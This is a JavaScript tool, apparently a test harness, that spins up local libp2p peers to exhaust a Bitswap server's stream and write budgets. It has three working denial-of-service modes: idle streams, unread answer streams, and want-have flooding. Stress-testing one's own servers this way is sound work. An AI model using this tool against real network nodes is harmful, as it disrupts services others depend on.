// js-libp2p peers that attack a Bitswap server's budgets (strangers we did not write). Each
// peer is its own libp2p node on 127.0.0.1 (TCP + Noise + Yamux + identify), dialling TARGET.
//
//   node --import ./shim.mjs bitswap-attacker.mjs MODE TARGET [--peers N] [--streams S]
//       [--cids CID,CID,...] [--seconds T]
//
// MODE:
//   idle-streams  every peer opens S /ipfs/bitswap/1.2.0 streams and never sends a byte
//   no-read       every peer wants-block CIDS and accepts the answers' streams without ever
//                 reading them (so the server's writes block)
//   have-flood    every peer sends want-have for CIDS with sendDontHave, again and again
// Prints {"ready": true, "peers": [...]} once every peer is connected and attacking, then
// {"event": "stats", ...} every second; runs T seconds (default 30), or until SIGTERM.

import { identify } from '@libp2p/identify'
import { noise } from '@libp2p/noise'
import { tcp } from '@libp2p/tcp'
import { yamux } from '@libp2p/yamux'
import { multiaddr } from '@multiformats/multiaddr'
import { createLibp2p } from 'libp2p'
import { CID } from 'multiformats/cid'

const PROTOCOL = '/ipfs/bitswap/1.2.0'

function parse (argv) {
  const o = { mode: argv.shift(), target: argv.shift(), peers: 1, streams: 32, cids: [], seconds: 30 }
  while (argv.length > 0) {
    const a = argv.shift()
    if (a === '--peers') o.peers = Number(argv.shift())
    else if (a === '--streams') o.streams = Number(argv.shift())
    else if (a === '--cids') o.cids = argv.shift().split(',').filter(Boolean).map((c) => CID.parse(c))
    else if (a === '--seconds') o.seconds = Number(argv.shift())
    else throw new Error(`unknown option ${a}`)
  }
  if (!['idle-streams', 'no-read', 'have-flood'].includes(o.mode) || !o.target) throw new Error('usage: MODE TARGET [options]')
  return o
}

// Protobuf by hand: varints, length-delimited fields.
function varint (n) {
  const out = []
  while (n >= 0x80) {
    out.push((n & 0x7f) | 0x80)
    n = Math.floor(n / 128)
  }
  out.push(n)
  return Uint8Array.from(out)
}
const cat = (parts) => {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0))
  let at = 0
  for (const p of parts) {
    out.set(p, at)
    at += p.length
  }
  return out
}
const field = (no, bytes) => cat([varint((no << 3) | 2), varint(bytes.length), bytes])
const vfield = (no, n) => cat([varint(no << 3), varint(n)])

// Bitswap Message { wantlist = 1 { entries = 1 { block = 1, priority = 2, wantType = 4,
// sendDontHave = 5 } } }, framed with a varint length.
function wantlist (cids, have) {
  const entries = cids.map((c) => field(1, cat([field(1, c.bytes), vfield(2, 1), vfield(4, have ? 1 : 0), vfield(5, have ? 1 : 0)])))
  const msg = field(1, cat(entries))
  return cat([varint(msg.length), msg])
}

async function node () {
  return createLibp2p({
    addresses: { listen: ['/ip4/127.0.0.1/tcp/0'] },
    transports: [tcp()],
    connectionEncrypters: [noise()],
    streamMuxers: [yamux()],
    peerDiscovery: [],
    connectionManager: { maxConnections: 64 },
    services: { identify: identify() }
  })
}

async function main () {
  const o = parse(process.argv.slice(2))
  const target = multiaddr(o.target)
  const stats = { streamsOpen: 0, streamsFailed: 0, messagesSent: 0, answerStreams: 0 }
  const peers = []
  const held = []
  for (let i = 0; i < o.peers; i++) {
    const p = await node()
    if (o.mode === 'no-read') {
      // Accept the server's answer streams and never read them: its writes fill the window.
      await p.handle(PROTOCOL, (stream) => {
        stats.answerStreams++
        stream.pause()
        held.push(stream)
      }, { maxInboundStreams: 1024 })
    }
    await p.dial(target)
    peers.push(p)
  }
  const open = async (p) => {
    try {
      const s = await p.dialProtocol(target, PROTOCOL)
      stats.streamsOpen++
      held.push(s)
      return s
    } catch {
      stats.streamsFailed++
      return null
    }
  }
  if (o.mode === 'idle-streams') {
    await Promise.all(peers.map(async (p) => {
      for (let s = 0; s < o.streams; s++) await open(p)
    }))
  }
  process.stdout.write(JSON.stringify({ ready: true, peers: peers.map((p) => p.peerId.toString()) }) + '\n')

  const end = Date.now() + o.seconds * 1000
  const tick = setInterval(() => process.stdout.write(JSON.stringify({ event: 'stats', ...stats }) + '\n'), 1000)
  const stop = async () => {
    clearInterval(tick)
    await Promise.all(peers.map((p) => p.stop().catch(() => {})))
    process.exit(0)
  }
  process.on('SIGTERM', stop)
  process.on('SIGINT', stop)
  while (Date.now() < end) {
    if (o.mode === 'idle-streams') {
      // Streams the server closed (idle) are opened again: the pressure never lets up.
      await Promise.all(peers.map(async (p) => {
        const mine = p.getConnections().flatMap((c) => c.streams).filter((s) => s.protocol === PROTOCOL).length
        for (let s = mine; s < o.streams; s++) await open(p)
      }))
      await new Promise((resolve) => setTimeout(resolve, 200))
    } else {
      await Promise.all(peers.map(async (p) => {
        const s = await open(p)
        if (s == null) return
        try {
          s.send(wantlist(o.cids, o.mode === 'have-flood'))
          stats.messagesSent++
          await s.close()
        } catch {
          stats.streamsFailed++
        }
      }))
      await new Promise((resolve) => setTimeout(resolve, o.mode === 'have-flood' ? 5 : 200))
    }
  }
  await stop()
}

main().catch((err) => {
  process.stderr.write(`bitswap-attacker: ${err.stack ?? err}\n`)
  process.exit(1)
})
